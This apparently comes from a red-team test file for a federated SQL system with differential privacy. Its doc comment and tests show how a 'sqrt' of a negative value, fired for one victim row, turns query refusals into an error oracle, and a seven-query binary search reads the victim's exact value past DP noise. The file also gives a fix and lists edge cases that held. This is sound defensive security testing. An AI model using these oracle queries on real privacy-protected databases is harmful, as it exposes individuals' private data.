//! The nineteenth outside attack set: error oracles, by a hostile analyst
//! writing SQL (in process and over `fedsql worker`s).
//!
//! A test named `breaks_…` asserts the leaking behaviour (it passes while
//! the bug exists); `holds_…` asserts what stopped an attack.
//!
//! **Found (BREAK, high): `sqrt` fails on a negative value, and the
//! catalogue says it never fails.** `udfs/src/catalogue.rs` marks `sqrt`
//! `never` ("NaN, not an error, for domain errors of floats"), so the
//! never-fail rewrite leaves it alone. But DataFusion 55's `sqrt` runs a
//! validator on every value (`validate_sqrt_input`: "cannot take square
//! root of a negative number") through `try_unary`, so one negative value
//! fails the whole batch, and the site answers its fixed refusal. Whether
//! a query fails then depends on one row:
//! `sqrt(CASE WHEN id = 17 AND x >= m THEN -1.0 ELSE 1.0 END)` fails
//! exactly when row 17 has x >= m — under `require_dp` (in process:
//! `breaks_sqrt_of_a_negative_fails_a_dp_query_on_one_row`), under plain
//! thresholds (`breaks_sqrt_of_a_negative_fails_a_thresholds_query_on_one_row`),
//! and over real `fedsql worker`s under `require_dp` and a budget of 1,
//! where seven `dp_count` queries at ε = 0.01 read the victim's x = 42
//! exactly (`breaks_an_analyst_reads_a_value_over_workers_through_sqrt`).
//! The answer is the same whatever ε: the refusal carries no noise.
//!
//! Fix: mark `sqrt` `may_fail` (it is then NULL-on-error row by row);
//! better, wrap *every* catalogued scalar function NULL-on-error (the
//! wrapper costs nothing when the batch succeeds), so that a library
//! upgrade that adds a validator or a panic to a function marked `never`
//! cannot reopen this; and add a catalogue test that runs each `never`
//! function over edge values (negative, zero, NaN, ±inf, extremes, empty
//! strings) and asserts it does not error.
//!
//! What else was tried (HOLDS, see
//! `holds_other_never_functions_and_casts_answer_on_edge_values`): the
//! other `never` math functions on domain errors (`ln`, `log10`, `log2`,
//! `acos`, `acosh`, `atanh`, `cot`, `exp`, `cbrt`, `degrees`, `atan2`,
//! `nanvl`, `greatest` with NaN), `to_hex` of i64::MIN, `btrim`, `ascii`,
//! `reverse` of empty text, `concat_ws` with a NULL separator; casts of
//! text to DECIMAL (1e400, 42 digits), of 1e308 to DECIMAL(38,0), of text
//! to INTERVAL (i64::MAX years, garbage), to BIGINT ('abc', 1e30), to
//! TIMESTAMP / DATE / TIME out of range, of 1e30 to TIMESTAMP; an implicit
//! text-to-integer coercion (`'abc' = 1`); negating a DECIMAL(38,0); an
//! integer shift by 100. All answer whatever the victim's value.

use fedsql::site::release::dp::DpPolicy;

use crate::attack54r::{DAY, answer_over_one, dp_only, dp_workers, ordinary};

/// The filter of a DP count that gives `bad` for the victim's row (id 17)
/// when its x is at least `m`, and `good` for every other row.
fn probe(template: &str, m: i64, bad: &str, good: &str) -> String {
    let value = format!("CASE WHEN id = 17 AND x >= {m} THEN {bad} ELSE {good} END");
    format!(
        "SELECT dp_count(*, 0.01) AS n FROM t WHERE {} IS NOT NULL",
        template.replace("{v}", &value)
    )
}

/// The victim's site: 20 ordinary rows and the victim's (id 17, x = 42).
fn victim_rows() -> Vec<(i32, i64, i64)> {
    let mut rows = ordinary();
    rows.push((DAY, 17, 42));
    rows
}

fn outcome(answer: &Result<String, String>) -> String {
    match answer {
        Ok(_) => "ok".to_string(),
        Err(e) => e.clone(),
    }
}

/// BREAK (high) — "Under a policy, whether a query fails, and how, must
/// not depend on one person's values". `sqrt` is catalogued as never
/// failing but DataFusion fails it on a negative value: a DP count whose
/// filter takes the square root of -1 for the victim's row when x >= m
/// is refused exactly then (m = 42: refused; m = 43: answered).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn breaks_sqrt_of_a_negative_fails_a_dp_query_on_one_row() {
    let dp = dp_only();
    let rows = victim_rows();
    let template = "sqrt({v})";
    let at_42 = answer_over_one(&probe(template, 42, "-1.0", "1.0"), &rows, &dp).await;
    let at_43 = answer_over_one(&probe(template, 43, "-1.0", "1.0"), &rows, &dp).await;
    assert!(
        at_42
            .as_ref()
            .is_err_and(|e| e.contains("could not evaluate the query")),
        "{at_42:?}"
    );
    assert!(at_43.is_ok(), "{at_43:?}");
    // Without the victim's row, neither fails: the row alone decides.
    let at_42 = answer_over_one(&probe(template, 42, "-1.0", "1.0"), &ordinary(), &dp).await;
    assert!(at_42.is_ok(), "{at_42:?}");
}

/// BREAK (high) — the same bit under a plain disclosure policy
/// (thresholds, no DP): `count(*)` of 21 rows answers or is refused as
/// the victim's x is below 42 or not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn breaks_sqrt_of_a_negative_fails_a_thresholds_query_on_one_row() {
    let dp = DpPolicy::default();
    let rows = victim_rows();
    let sql = |m: i64| {
        format!(
            "SELECT count(*) AS n FROM t WHERE sqrt(CASE WHEN id = 17 AND x >= {m} THEN -1.0 ELSE 1.0 END) > 0"
        )
    };
    let at_42 = answer_over_one(&sql(42), &rows, &dp).await;
    let at_43 = answer_over_one(&sql(43), &rows, &dp).await;
    assert!(at_42.is_err(), "{at_42:?}");
    assert!(at_43.is_ok(), "{at_43:?}");
}

/// BREAK (high) — over real `fedsql worker`s, by SQL alone, with no
/// unusual data: under `require_dp` and a budget of 1, seven `dp_count`
/// queries at ε = 0.01 whose filter takes `sqrt(-1)` for the victim's row
/// (id 17) when x >= m read its x = 42 exactly (a search over [0, 128)).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn breaks_an_analyst_reads_a_value_over_workers_through_sqrt() {
    let (_workers, ctx, _dir) = dp_workers(&[victim_rows(), ordinary()]).await;
    // x >= lo holds, x >= hi does not.
    let (mut lo, mut hi) = (0i64, 128i64);
    let mut queries = 0;
    while hi - lo > 1 {
        let m = (lo + hi) / 2;
        let answer = crate::attacks::answer(&ctx, &probe("sqrt({v})", m, "-1.0", "1.0")).await;
        queries += 1;
        eprintln!("x >= {m}: {}", outcome(&answer));
        if answer.is_err() {
            lo = m;
        } else {
            hi = m;
        }
    }
    assert_eq!((lo, queries), (42, 7));
}

/// HOLDS — the other functions marked `never`, and casts (which the site
/// makes TRY_CAST), answer whether the victim's row takes an edge value
/// or not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn holds_other_never_functions_and_casts_answer_on_edge_values() {
    let dp = dp_only();
    let rows = victim_rows();
    let cases: &[(&str, &str, &str)] = &[
        ("ln({v})", "-1.0", "1.0"),
        ("log10({v})", "-1.0", "1.0"),
        ("log2({v})", "0.0", "1.0"),
        ("acos({v})", "2.0", "0.5"),
        ("acosh({v})", "0.5", "2.0"),
        ("atanh({v})", "2.0", "0.5"),
        ("cot({v})", "0.0", "1.0"),
        ("exp({v})", "1000.0", "1.0"),
        ("cbrt({v})", "-8.0", "8.0"),
        ("degrees({v})", "1e308", "1.0"),
        ("atan2({v}, 0.0)", "0.0", "1.0"),
        ("nanvl({v}, 1.0)", "CAST('NaN' AS DOUBLE)", "1.0"),
        ("greatest({v}, 1.0)", "CAST('NaN' AS DOUBLE)", "1.0"),
        ("to_hex({v})", "-9223372036854775808", "1"),
        ("btrim({v}, '')", "''", "'a'"),
        ("ascii({v})", "''", "'a'"),
        ("reverse({v})", "''", "'a'"),
        ("concat_ws({v}, 'a', 'b')", "NULL", "','"),
        ("CAST({v} AS DECIMAL(38,0))", "'1e400'", "'1'"),
        (
            "CAST({v} AS DECIMAL(38,0))",
            "'999999999999999999999999999999999999999999'",
            "'1'",
        ),
        ("CAST({v} AS DECIMAL(38,0))", "1e308", "1.0"),
        (
            "CAST({v} AS INTERVAL)",
            "'9223372036854775807 years'",
            "'1 day'",
        ),
        ("CAST({v} AS INTERVAL)", "'garbage'", "'1 day'"),
        ("CAST({v} AS BIGINT)", "'abc'", "'1'"),
        ("CAST({v} AS BIGINT)", "1e30", "1.0"),
        ("({v} = 1)", "'abc'", "'1'"),
        (
            "(-CAST({v} AS DECIMAL(38,0)))",
            "-99999999999999999999999999999999999999",
            "1",
        ),
        ("(1 << {v})", "100", "1"),
        ("CAST({v} AS TIMESTAMP)", "'+99999-01-01'", "'2020-01-01'"),
        ("CAST({v} AS DATE)", "'99999999-01-01'", "'2020-01-01'"),
        ("CAST({v} AS TIME)", "'25:99:99'", "'10:00:00'"),
        ("CAST({v} AS TIMESTAMP)", "1e30", "1.0"),
    ];
    for (template, bad, good) in cases {
        let at_42 = answer_over_one(&probe(template, 42, bad, good), &rows, &dp).await;
        let at_43 = answer_over_one(&probe(template, 43, bad, good), &rows, &dp).await;
        assert!(
            at_42.is_ok() && at_43.is_ok(),
            "{template} with {bad}: {} / {}",
            outcome(&at_42),
            outcome(&at_43)
        );
    }
}
